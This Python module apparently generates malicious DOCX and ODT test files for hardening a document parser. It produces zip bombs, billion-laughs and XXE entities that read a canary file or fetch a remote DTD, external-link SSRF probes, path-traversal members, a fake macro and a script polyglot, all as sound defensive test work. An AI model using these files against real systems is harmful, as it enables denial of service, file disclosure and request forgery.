"""Word and OpenDocument packages that explode, call home, read local files, or are broken on purpose."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>'
)
_ROOT = (
    f'<?xml version="1.0"?><Relationships xmlns="{_RELS}">'
    f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)
_ZEROS = b"\0" * (1 << 20)
_PIXELS_4 = "http://schemas.openxmlformats.org/drawingml/2006"


def office_files(canary_url: str, canary_file: str, scale: int) -> Mapping[str, bytes]:
    """Return the packages by file name.

    Args:
        canary_url: address that must never be asked.
        canary_file: absolute path of a file whose text must never appear.
        scale: size of what is big, in thousands (of paragraphs, kilobytes, members).
    """
    text = _paragraph("Texto comum de um documento de aparência inocente.")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE w:document [<!ENTITY l0 "ha">{laughs}]>'
    reading = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file://{canary_file}">]>'
    asking = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{canary_url}/entity"><!ENTITY % p SYSTEM '
    asking += f'"{canary_url}/dtd"> %p;]>'
    external = {
        "image": f'<Relationship Id="r2" Type="{_R}/image" Target="{canary_url}/i.png" '
        'TargetMode="External"/>',
        "template": f'<Relationship Id="r2" Type="{_R}/attachedTemplate" Target="{canary_url}/t.dotm" '
        'TargetMode="External"/>',
        "ole": f'<Relationship Id="r2" Type="{_R}/oleObject" Target="{canary_url}/o.bin" '
        'TargetMode="External"/>',
        "file": f'<Relationship Id="r2" Type="{_R}/image" Target="file://{canary_file}" '
        'TargetMode="External"/>',
    }
    return {
        "bomba.docx": _docx(text, extra={"word/media/image1.png": _ZEROS * scale}),
        "bomba-aninhada.docx": _docx(text, extra={"word/embeddings/inner.zip": _nested(scale)}),
        "bomba-sobreposta.docx": _overlapping(_docx(text), scale),
        "bomba-mentirosa.docx": _understated(_docx(_paragraph("a" * (scale << 10)))),
        "membros.docx": _docx(text, extra={f"word/media/{n}.bin": b"" for n in range(21_000)}),
        "risadas.docx": _docx(_paragraph("&l9;"), doctype=bomb),
        "entidade-local.docx": _docx(_paragraph("&x;"), doctype=reading),
        "entidade-remota.docx": _docx(_paragraph("&x;"), doctype=asking),
        "propriedades-com-entidade.docx": _docx(text, extra={"docProps/core.xml": _core(canary_file)}),
        "travessia.docx": _docx(text, extra={"../../../../tmp/fora.txt": b"x", "/etc/fora": b"x"}),
        "macro.docx": _docx(text, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen()" * 9}),
        "paragrafos-vazios.docx": _docx("<w:p/>" * (1000 * scale) + text),
        "aninhado.docx": _docx(_nested_tables(120 * scale)),
        "xml-fundo.docx": _docx("<w:p>" * (4000 * scale) + "</w:p>" * (4000 * scale)),
        "xml-quebrado.docx": _docx("<w:p><w:r><w:t>sem fim"),
        "duas-vezes.docx": _twice(_docx(text)),
        **{f"externo-{name}.docx": _docx(text + _picture(), link) for name, link in external.items()},
        "objeto-remoto.odt": _odt(canary_url),
        "zip-truncado.docx": _docx(text)[:-40],
        "poliglota.docx": b"<html><script>alert(1)</script>" + _docx(text),
    }


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _picture() -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        f'wordprocessingDrawing"><a:graphic xmlns:a="{_PIXELS_4}/main"><a:graphicData uri="{_PIXELS_4}/'
        f'picture"><pic:pic xmlns:pic="{_PIXELS_4}/picture"><pic:blipFill><a:blip r:link="r2" r:embed="r2"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _nested_tables(depth: int) -> str:
    cell = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>"
    return cell * depth + "</w:tc></w:tr></w:tbl>" * depth


def _docx(
    body: str, relationships: str = "", *, doctype: str = "", extra: Mapping[str, bytes] | None = None
) -> bytes:
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}'
        "</w:body></w:document>"
    )
    parts = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _ROOT.encode(),
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELS}">{relationships}</Relationships>'
        .encode(),
        **(extra or {}),
    }  # fmt: skip
    return _zip(parts)


def _zip(parts: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def _nested(scale: int) -> bytes:
    inner = _zip({"zeros": _ZEROS * scale})
    return _zip({f"{n}.zip": inner for n in range(50)})


def _overlapping(package: bytes, scale: int) -> bytes:
    """Let many entries of the directory lead to the same bytes (Fifield, "A better zip bomb", 2019)."""
    data = zlib.compress(_ZEROS * scale)[2:-4]
    local = zipfile.ZipInfo("word/media/x")
    local.compress_type, local.CRC = zipfile.ZIP_DEFLATED, zlib.crc32(_ZEROS * scale)
    local.file_size, local.compress_size = len(_ZEROS) * scale, len(data)
    stream = io.BytesIO(package)
    with zipfile.ZipFile(stream, "a") as archive:
        start = archive.start_dir
        stream.seek(start)
        stream.write(local.FileHeader() + data)
        archive.start_dir = stream.tell()
        for number in range(500):
            entry = zipfile.ZipInfo(f"word/media/{number}")
            entry.compress_type, entry.CRC = zipfile.ZIP_DEFLATED, local.CRC
            entry.file_size, entry.compress_size = local.file_size, local.compress_size
            entry.header_offset = start
            archive.filelist.append(entry)
            archive.NameToInfo[entry.filename] = entry
        archive._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


def _understated(package: bytes) -> bytes:
    """Let the directory say that the document's XML is 100 bytes long."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    return package.replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))


def _twice(package: bytes) -> bytes:
    stream = io.BytesIO(package)
    with zipfile.ZipFile(stream, "a") as archive:
        entry = zipfile.ZipInfo("word/document.xml")
        archive.NameToInfo.pop(entry.filename)
        archive.writestr(entry, b"<another/>")
    return stream.getvalue()


def _core(canary_file: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file://{canary_file}">]><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&x;</dc:title></cp:coreProperties>'
    ).encode()


def _odt(canary_url: str) -> bytes:
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (("office", "office"), ("text", "text"), ("draw", "drawing"))
    )
    content = (
        f'<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
        f"<office:text><text:p>Texto com imagem de longe.<draw:frame><draw:image xlink:href="
        f'"{canary_url}/odt.png"/></draw:frame></text:p></office:text></office:body>'
        "</office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.text"
    manifest = b'<manifest xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return _zip({"mimetype": kind, "content.xml": content.encode(), "META-INF/manifest.xml": manifest})
